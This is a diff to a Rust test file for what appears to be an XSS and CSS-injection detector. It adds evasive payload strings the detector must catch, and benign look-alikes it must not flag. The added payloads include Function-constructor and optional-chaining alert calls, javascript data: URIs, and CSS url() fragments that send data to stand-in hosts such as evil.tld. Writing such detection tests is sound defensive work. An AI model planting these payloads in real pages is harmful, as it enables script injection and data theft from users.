@@ -1414,6 +1414,19 @@ fn statements_and_styles_without_a_sink_call() {
         "x:exp\\ression(alert(1))",
         "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
         "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
+        "Function`a${`alert(1)`}```",
+        "window?.alert?.(1)",
+        "window?.alert(1)",
+        "top?.[\"alert\"](document.domain)",
+        "window.alert?.(1)",
+        "Function`x${'alert(document.domain)'}```",
+        "new Function`${\"alert(1)\"}`",
+        "data:application/x-javascript,alert(1)",
+        "data:text/x-javascript,alert(1)",
+        "data:application/x-ecmascript,alert(1)",
+        "\";}body{background:url(//evil.tld/leak?",
+        "a{background:url('https://x.example/?",
+        "red}} .x { background-image: url(\"http://evil.example/c?",
     ] {
         assert!(hit(v), "missed {v:?}");
     }
@@ -1425,6 +1438,19 @@ fn statements_and_styles_without_a_sink_call() {
         "see C:\\expression\\files",
         "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
         "input[value^=a]{border:1px solid red}",
+        "Function`Hello ${name}, you have ${count} messages`",
+        "user?.name ?? 'guest'",
+        "config?.items?.map(render)",
+        "is it ok?.5 mg twice a day",
+        "cart?.items?.push(item)",
+        "new Function`return ${a} + ${'b'}`",
+        "background:url(/img/a.png)",
+        "font-family: \"Segoe UI\"; color: red",
+        ".hero{background:url(https://cdn.example.com/a.png)}",
+        "background:url('https://cdn.example.com/a.png",
+        ".a{background:url(/img/a.png",
+        "body { color: red } see url(https://example.com/?",
+        "{\"next\": \"https://example.com/?q=url(https://x\"",
     ] {
         assert!(!hit(v), "flagged {v:?}");
     }
